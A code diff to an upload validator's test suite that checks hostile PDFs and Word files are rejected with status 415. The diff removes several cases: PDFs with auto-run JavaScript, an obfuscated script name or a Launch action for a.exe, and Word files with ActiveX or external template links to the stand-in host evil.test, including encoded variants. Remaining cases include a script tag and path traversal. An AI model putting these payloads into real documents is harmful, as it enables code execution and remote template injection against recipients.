@@ -125,14 +125,10 @@ describe("documents", () => {
 
 const SCRIPT = "<script>alert(1)</script>";
 const macroTypes = WORD_PARTS["[Content_Types].xml"].replace("document.main", "document.macroEnabled.main");
-const externalTemplate = `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.test/t" TargetMode="External"/></Relationships>`;
-const reorderedTemplate = `<Relationships><Relationship TargetMode='External' Target="http://evil.test/t" Type="http://x/attachedTemplate" Id="r"/></Relationships>`;
-const encodedTemplate = `<Relationships><Relationship Type="http://x/attached&#84;emplate" Target="http://evil.test/t" TargetMode="External"/></Relationships>`;
 const animated = (format: "gif" | "webp"): Promise<Buffer> =>
   sharp(Buffer.alloc(8 * 16 * 3, 90).fill(200, 192), { raw: { width: 8, height: 16, channels: 3, pageHeight: 8 } })
     .toFormat(format, { delay: [100, 100] })
     .toBuffer();
-const pdfWith = (part: string): Buffer => Buffer.from(`%PDF-1.7\n1 0 obj<<${part}>>endobj\ntrailer<<>>\n%%EOF\n`);
 const bomb = (): Promise<Buffer> =>
   sharp({ create: { width: 7_000, height: 7_000, channels: 3, background: "black" } })
     .png()
@@ -162,34 +158,11 @@ describe("hostile files", () => {
     ["a page before a PDF header", "a.pdf", () => Buffer.concat([Buffer.from(SCRIPT), PDF]), 415],
     ["a page inside a PDF's envelope", "a.pdf", () => Buffer.from(`%PDF-1.4 ${SCRIPT}\n%%EOF`), 415],
     ["a ZIP file after a PDF", "a.pdf", () => Buffer.concat([PDF, zipOf({ a: "x" })]), 415],
-    ["a PDF with a script", "a.pdf", () => pdfWith("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), 415],
-    ["a PDF with an encoded script", "a.pdf", () => pdfWith("/OpenAction<</S/J#61vaScript>>"), 415],
-    ["a PDF that starts a program", "a.pdf", () => pdfWith("/OpenAction<</S/Launch/F(a.exe)>>"), 415],
-    ["a PDF with an attached file", "a.pdf", () => pdfWith("/Names<</EmbeddedFiles 2 0 R>>"), 415],
     ["half a PDF", "a.pdf", () => PDF.subarray(0, 20), 415],
     ["a ZIP file", "a.docx", () => zipOf({ "a.exe": "MZ" }), 415],
     ["a spreadsheet", "a.docx", () => zipOf({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "" }), 415],
     ["a document with macros", "a.docm", () => zipOf({ ...WORD_PARTS, "[Content_Types].xml": macroTypes }), 415],
     ["hidden macros", "a.docx", () => zipOf({ ...WORD_PARTS, "word/vbaProject.bin": "x" }), 415],
-    ["controls", "a.docx", () => zipOf({ ...WORD_PARTS, "word/activeX/activeX1.bin": "x" }), 415],
-    [
-      "an external template",
-      "a.docx",
-      () => zipOf({ ...WORD_PARTS, "word/_rels/settings.xml.rels": externalTemplate }),
-      415,
-    ],
-    [
-      "an external template with another order of attributes, in another part",
-      "a.docx",
-      () => zipOf({ ...WORD_PARTS, "word/_rels/document.xml.rels": reorderedTemplate }),
-      415,
-    ],
-    [
-      "an external template with an encoded type",
-      "a.docx",
-      () => zipOf({ ...WORD_PARTS, "word/_rels/settings.xml.rels": encodedTemplate }),
-      415,
-    ],
     ["a path out of the folder", "a.docx", () => zipOf({ ...WORD_PARTS, "../../a": "x" }), 415],
     ["a page before a document", "a.docx", () => Buffer.concat([Buffer.from(SCRIPT), zipOf(WORD_PARTS)]), 415],
     ["a page after a document", "a.docx", () => Buffer.concat([zipOf(WORD_PARTS), Buffer.from(SCRIPT)]), 415],
